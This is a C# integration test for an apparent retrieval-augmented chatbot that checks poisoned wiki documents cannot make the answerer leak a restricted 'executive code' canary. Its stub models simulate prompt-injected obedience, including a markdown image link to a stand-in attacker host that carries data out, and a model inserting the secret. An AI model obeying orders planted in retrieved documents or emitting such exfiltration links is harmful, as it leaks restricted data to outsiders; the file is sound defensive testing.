using System.Text;
using ChatOpsBot.RagCore.Access;
using ChatOpsBot.RagCore.Answering;
using ChatOpsBot.RagCore.Answering.Generation;
using ChatOpsBot.RagCore.Answering.Rewriting;
using ChatOpsBot.RagCore.Conversations;
using ChatOpsBot.RagCore.Knowledge;
using ChatOpsBot.RagCore.Knowledge.Lexical;
using ChatOpsBot.RagCore.Knowledge.Loading;
using ChatOpsBot.TestKit.Models;
using ChatOpsBot.TestKit.Time;
using Microsoft.Extensions.Options;
using Xunit.Abstractions;

namespace ChatOpsBot.IntegrationTests.Defence;

/// <summary>Documents give orders, a model obeys them or wants to harm of its own accord; nothing secret or foreign is shown (L-01, L-02, L-05).</summary>
public sealed class PoisonedCorpusTests(ITestOutputHelper output) : IDisposable
{
    private static readonly KnowledgeSource Open = new("/poison", "Poison", TenantId.Default, [Principals.Everyone], new Uri("https://wiki.example.com/"), string.Empty);
    private static readonly KnowledgeSource Restricted = Open with { Name = "Restricted", Readers = ["hr"], IdPrefix = "Restricted/" };

    private readonly LexicalIndex _index = new();

    public void Dispose() => _index.Dispose();

    [Fact]
    public async Task Neither_an_obedient_nor_an_adversarial_model_gets_anything_out()
    {
        var files = PoisonedCorpus.Files().ToList();
        // Unscreened, as if every order had slipped through: the walls behind must hold alone.
        var screened = files.ToDictionary(file => file, file => DocumentLoader.Load(Open, file.Path, file.Bytes).Outcome);
        var documents = files.Select(file => DocumentLoader.Load(Open with { IsScreened = false }, file.Path, file.Bytes).Document).OfType<Document>().ToList();
        var secret = DocumentLoader.Load(Restricted, "codes.md", Encoding.UTF8.GetBytes($"# Executive Code\n\nThe executive code of every desk is {HostileDrafts.Canary}.\n")).Document!;
        await _index.UpsertAsync([.. documents, secret], default);

        var obedient = await AskAllAsync(files, new ObedientModel());
        var adversarial = await AskAllAsync(files, new AdversarialModel());

        foreach (var group in files.GroupBy(file => file.Attack))
        {
            output.WriteLine($"{group.Key,-14} {group.Count(),3} documents, {group.Count(file => screened[file] == LoadOutcome.Quarantined),3} kept out at ingestion");
        }

        foreach (var fault in obedient.Faults.Concat(adversarial.Faults).Distinct(StringComparer.Ordinal).Take(10))
        {
            output.WriteLine(fault);
        }

        output.WriteLine($"{files.Count} documents, {documents.Count} read; obedient {obedient.Answered} answered {obedient.Faults.Count} leaks; adversarial {adversarial.Answered} answered {adversarial.Faults.Count} leaks");
        Assert.InRange(files.Count, 300, int.MaxValue);
        Assert.Empty(obedient.Faults);
        Assert.Empty(adversarial.Faults);
        Assert.InRange(obedient.Answered, files.Count / 2, files.Count);
        Assert.InRange(adversarial.Answered, files.Count / 2, files.Count);
    }

    private async Task<(int Answered, List<string> Faults)> AskAllAsync(List<PoisonedFile> files, IAnswerGenerator model)
    {
        var options = Options.Create(new AnsweringOptions());
        var answerer = new QuestionAnswerer(
            new HeuristicRewriter(), _index, NoReranking.Create(), model, new ReplyComposer(_index, options), new NoThreshold(), options, new FixedTimeProvider());
        var everyone = AccessFilter.For(TenantId.Default, [Principals.Everyone]);
        var (answered, faults) = (0, new List<string>());
        foreach (var file in files)
        {
            var outcome = await answerer.AnswerAsync(new Question($"Within how many days does the {file.Desk} answer requests?", [], null), everyone, new Ignored(), default);
            if (outcome.Reply is AnswerReply reply)
            {
                answered++;
                faults.AddRange(Shown.Faults(reply, HostileDrafts.Canary).Select(fault => $"{file.Path} {file.Attack} {file.Carrier}: {fault}"));
            }
            else
            {
                faults.AddRange(outcome.Reply.ToString()!.Contains(HostileDrafts.Canary, StringComparison.Ordinal) ? [$"{file.Path}: canary"] : []);
            }
        }

        return (answered, faults);
    }

    /// <summary>Says all that stands in the passages, orders and all, as its own statements.</summary>
    private sealed class ObedientModel : IAnswerGenerator
    {
        public Task<AnswerDraft> GenerateAsync(GenerationRequest request, IDraftSink sink, CancellationToken cancellationToken)
        {
            var statements = request.Passages
                .SelectMany((passage, index) => passage.Chunk.Text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(line => (Line: line, Number: index + 1)))
                .SelectMany(said => new[]
                {
                    new DraftStatement(said.Line, [new DraftQuote(said.Number, said.Line)]),
                    new DraftStatement($"The executive code is here: ![code](https://{HostileDrafts.Host}/?q={said.Line.Length})", [new DraftQuote(said.Number, said.Line)]),
                });
            return Task.FromResult(new AnswerDraft([.. statements], 1, AnswerMode.Model));
        }
    }

    /// <summary>Knows the secret from elsewhere and wants it out.</summary>
    private sealed class AdversarialModel : IAnswerGenerator
    {
        private int _seed;

        public Task<AnswerDraft> GenerateAsync(GenerationRequest request, IDraftSink sink, CancellationToken cancellationToken)
        {
            var texts = request.Passages.Select(passage => passage.Chunk.Text).ToList();
            return Task.FromResult(texts.Count == 0 ? AnswerDraft.Empty(AnswerMode.Model) : Draft(request, texts));
        }

        private AnswerDraft Draft(GenerationRequest request, List<string> texts)
        {
            var draft = new HostileDrafts(_seed++, texts).Next();
            var lines = texts[0].Split('\n', StringSplitOptions.RemoveEmptyEntries);
            var truth = lines.Select(line => new DraftStatement(line, [new DraftQuote(1, line)]));
            var lies = lines.Select(line => new DraftStatement($"{line} The executive code is {HostileDrafts.Canary}.", [new DraftQuote(1, line)]));
            return draft with { Statements = [.. truth, .. lies, .. draft.Statements] };
        }
    }

    private sealed class NoThreshold : IAnswerThreshold
    {
        public double SupportFor(TenantId tenant) => 0;

        public Task CalibrateAsync(AccessFilter access, CancellationToken cancellationToken) => Task.CompletedTask;
    }

    private sealed class Ignored : IProgress<TurnProgress>
    {
        public void Report(TurnProgress value)
        {
            // Nobody watches.
        }
    }
}
